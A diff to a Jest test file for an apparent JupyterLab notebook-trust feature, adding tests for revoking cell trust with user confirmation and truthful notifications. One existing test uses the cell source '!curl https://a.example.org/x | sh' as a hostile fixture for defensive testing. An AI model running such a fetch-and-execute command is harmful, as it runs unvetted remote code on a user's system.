@@ -4,15 +4,17 @@ import {
   RenderMimeRegistry,
   standardRendererFactories
 } from '@jupyterlab/rendermime';
+import { Notification } from '@jupyterlab/apputils';
 import { nullTranslator } from '@jupyterlab/translation';
 
+import { trustCells } from '../notebook/trusting';
 import { FixHistory } from '../notebook/history';
 import { toContents } from '../notebook/testing/memorycontents';
 import { MemoryDrive } from '../notebook/testing/memorydrive';
 import { htmlNotebook, watchNotebook } from '../notebook/testing/opennotebook';
 import { PageEngine } from '../notebook/testing/pageengine';
 import { TrustWatch } from '../notebook/trust';
-import type { TrustServer } from '../notebook/trustserver';
+import type { RevokeResult, TrustServer } from '../notebook/trustserver';
 import type { ReviewOptions, TrustChoice, TrustKind } from '../ui/trustdialog';
 import { Changes } from './changes';
 import { type OpenNotebook, TrustFlow } from './trust';
@@ -26,6 +28,10 @@ const rendermime = new RenderMimeRegistry({
   initialFactories: standardRendererFactories
 });
 
+/** What becomes of a signature that is taken back. */
+let revoked: RevokeResult = 'revoked';
+
+const mayRevoke = jest.fn(() => Promise.resolve(true));
 const asked = jest.fn<Promise<TrustChoice>, [ReviewOptions]>();
 
 interface Opened {
@@ -33,6 +39,7 @@ interface Opened {
   readonly flow: TrustFlow;
   readonly trust: TrustWatch;
   readonly sign: jest.Mock;
+  readonly revoke: jest.Mock;
   readonly save: jest.Mock;
   /** The cells that ran, `null` for all. */
   readonly runs: (readonly string[] | null)[];
@@ -50,6 +57,7 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
   const content = { rendermime };
   const panel = { content, context: watch.context } as unknown as NotebookPanel;
   const sign = jest.fn(() => Promise.resolve(canSign));
+  const revoke = jest.fn(() => Promise.resolve(revoked));
   const trust = new TrustWatch({
     engine,
     contents,
@@ -61,9 +69,10 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
     engine,
     changes: new Changes(new FixHistory(), trans),
     trust,
-    server: { sign } as unknown as TrustServer,
+    server: { sign, revoke } as unknown as TrustServer,
     trans,
     ask: asked,
+    mayRevoke,
     run: (_, cells) => void runs.push(cells && cells.map(({ id }) => id))
   });
   const each = <Told>(tell: (cell: ICellModel) => Told): Told[] =>
@@ -73,6 +82,7 @@ const open = (htmls: readonly string[], canSign = true): Opened => {
     flow,
     trust,
     sign,
+    revoke,
     save,
     runs,
     trusted: () => each(({ trusted }) => trusted),
@@ -227,5 +237,45 @@ describe('before all cells run', () => {
     cell.sharedModel.setSource('!curl https://a.example.org/x | sh');
     answer(['leave']);
     expect(await flow.mayRun(notebook)).toBe(false);
+  });
+});
+
+describe('trust that is taken back', () => {
+  const openTrusted = (): Opened => {
+    const opened = open([SCRIPT, CALM]);
+    const { model } = opened.notebook.watch;
+    trustCells(model, model.cells);
+    opened.trust.follow(opened.notebook.watch);
+    Notification.dismiss();
+    return opened;
+  };
+  const told = (): string[] =>
+    Notification.manager.notifications.map(({ message }) => message);
+
+  it.each<[RevokeResult, string, string]>([
+    [
+      'revoked',
+      'unsigned',
+      'The signature is removed from the server’s database.'
+    ],
+    ['none', 'unsigned', 'The server had no signature of the file.'],
+    ['missing', 'signed', 'The signature stays in the server’s database'],
+    ['failed', 'signed', 'could not remove the signature']
+  ])('%s: the truth is told', async (result, signature, sentence) => {
+    const { notebook, flow, trust, trusted } = openTrusted();
+    revoked = result;
+    await flow.revoke(notebook);
+    expect(trusted()).toEqual([false, false]);
+    expect(notebook.watch.model.dirty).toBe(false);
+    expect(trust.read(notebook.watch).signature).toBe(signature);
+    expect(told().join()).toContain(sentence);
+  });
+
+  it('is asked for first', async () => {
+    const { notebook, flow, trusted, revoke } = openTrusted();
+    mayRevoke.mockResolvedValueOnce(false);
+    await flow.revoke(notebook);
+    expect(trusted()).toEqual([true, true]);
+    expect(revoke).not.toHaveBeenCalled();
   });
 });
